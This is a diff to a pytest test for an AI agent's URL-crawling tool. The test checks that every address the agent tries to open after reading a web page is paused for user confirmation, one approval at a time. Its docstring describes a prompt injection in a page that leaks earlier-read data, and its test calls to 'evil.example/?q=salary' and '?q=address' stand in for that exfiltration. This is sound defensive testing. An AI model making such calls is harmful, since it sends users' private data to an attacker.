@@ -7,11 +7,13 @@ import pytest
 from tests.runs.bench import RunBench
 from tests.tools.room import Room
 from tests.world import World
+from workroom.agent.config import AgentConfig
 from workroom.agent.testing import call, say
 from workroom.core.pages import PageRequest
-from workroom.core.pauses import Confirmation
+from workroom.core.pauses import Confirmation, Confirmed
 from workroom.core.run_events import RunState
 from workroom.files.types import File, FileChange, FileFilter
+from workroom.runs.configs import AgentConfigs
 from workroom.skills.url_crawler import CrawledSite, skill_url_crawler
 from workroom.websites.testing import InMemoryWebsites
 
@@ -66,18 +68,22 @@ async def test_long_pages_are_told_in_part_and_limits_are_named(world: World) ->
 
 @pytest.mark.requirement("B6")
 async def test_after_what_others_wrote_each_address_is_shown_before_it_is_opened(world: World) -> None:
-    """S21: an instruction in a page could have what was read before sent away as part of an address."""
+    """S21: an instruction in a page could have what was read before sent away as part of an address. A yes to one is none to the
+    next, and a workspace that writes unasked is asked all the same."""
     bench = RunBench(world, tool_names=frozenset({"skill_url_crawler"}))
+    await AgentConfigs(bench.db).put(world["alice"].principal, bench.lab, AgentConfig(confirm_untrusted_writes=False))
     accepted = await bench.ask("Read the website.")
-    leak = "https://evil.example/?q=salary"
-    await bench.advance(
-        accepted, [call("skill_url_crawler", url="bakery.example")], [call("skill_url_crawler", url=leak)]
-    )
-    run = await bench.runs.get(bench.principal, accepted.run_id)
-    assert run.state is RunState.PAUSED
-    [row] = await bench.rows("select pause from tool_calls where run_id = $1 and state = 'waiting'", accepted.run_id)
-    pause = Confirmation.model_validate_json(row["pause"])
-    assert (pause.untrusted, pause.name) == (True, leak)
+    leaks = [call("skill_url_crawler", url=f"https://evil.example/?q={word}") for word in ("salary", "address")]
+    await bench.advance(accepted, [call("skill_url_crawler", url="bakery.example")], leaks)
+    for leak in leaks:
+        assert (await bench.runs.get(bench.principal, accepted.run_id)).state is RunState.PAUSED
+        [row] = await bench.rows(
+            "select pause from tool_calls where run_id = $1 and state = 'waiting'", accepted.run_id
+        )
+        pause = Confirmation.model_validate_json(row["pause"])
+        assert (pause.untrusted, pause.for_run, pause.name) == (True, False, leak.arguments["url"])
+        await bench.runs.answer(bench.principal, accepted.run_id, leak.call_id, Confirmed(accepted=True))
+        await bench.advance(accepted, say("Done."))
 
 
 async def test_what_was_stored_is_stored_once_with_its_result(world: World) -> None:
